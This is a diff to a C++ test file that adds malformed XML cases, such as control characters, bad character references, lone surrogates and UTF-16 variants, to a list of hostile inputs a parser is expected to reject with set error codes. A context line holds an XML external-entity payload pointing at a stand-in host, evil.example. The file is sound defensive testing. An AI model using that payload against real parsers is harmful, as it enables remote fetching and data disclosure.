@@ -151,6 +151,14 @@ std::vector<Hostile> hostile() {
     wide += c;
     wide += '\0';
   }
+  const auto in_utf16 = [](std::string_view ascii) {
+    std::string bytes = "\xfe\xff";
+    for (const char c : ascii) {
+      bytes += '\0';
+      bytes += c;
+    }
+    return bytes;
+  };
   return {
       {"Empty", "XML-002", ""},
       {"NoXml", "XML-002", "%PDF-1.7"},
@@ -168,6 +176,28 @@ std::vector<Hostile> hostile() {
        "<!DOCTYPE a [<!ENTITY % x SYSTEM \"https://evil.example/x\">%x;]><a/>"},
       {"DocumentTypeInUtf16", "XML-003", wide},
       {"UnknownEntity", "XML-003", "<a>&nbsp;</a>"},
+      {"UnknownEntityInUtf16", "XML-003", in_utf16("<a>&nbsp;</a>")},
+      {"UnknownEntityInAttribute", "XML-003", "<a b='&nbsp;'/>"},
+      {"ControlCharacter", "XML-002", "<a>\x01</a>"},
+      {"ControlCharacterInAttribute", "XML-002", "<a b='\x1f'/>"},
+      {"ControlCharacterInComment", "XML-002", "<!--\x01--><a/>"},
+      {"ControlCharacterInUtf16", "XML-002", in_utf16("<a>\x01</a>")},
+      {"ControlCharacterByNumber", "XML-002", "<a>&#1;</a>"},
+      {"ControlCharacterByNumberInAttribute", "XML-002", "<a b=\"&#x1F;\"/>"},
+      {"SurrogateByNumber", "XML-002", "<a>&#xD800;</a>"},
+      {"NumberBeyondUnicode", "XML-002", "<a>&#99999999999;</a>"},
+      {"NoNumber", "XML-002", "<a>&#;</a>"},
+      {"NoCharacter", "XML-002", "<a>\xEF\xBF\xBF</a>"},
+      {"LoneSurrogateInUtf16", "XML-002", std::string("\xfe\xff\0<\0a\0>\xd8\0\0<\0/\0a\0>", 18)},
+      {"NoUtf8InComment", "XML-002", "<!--\xff--><a/>"},
+      {"BareAmpersand", "XML-002", "<a>a & b;</a>"},
+      {"DashesInComment", "XML-002", "<!-- a -- b --><a/>"},
+      {"CommentEndsInThreeDashes", "XML-002", "<!-- a ---><a/>"},
+      {"LessInAttribute", "XML-002", "<a b=\"<\"/>"},
+      {"EndOfCdataInText", "XML-002", "<a>]]></a>"},
+      {"TextBeforeTheRoot", "XML-002", "a<a/>"},
+      {"TextBehindTheRoot", "XML-002", "<a></a>a"},
+      {"DeclarationBehindABlank", "XML-002", " <?xml version=\"1.0\"?><a/>"},
       {"Deep", "XML-002", deep},
       {"DeepButWhole", "XML-004",
        [] {
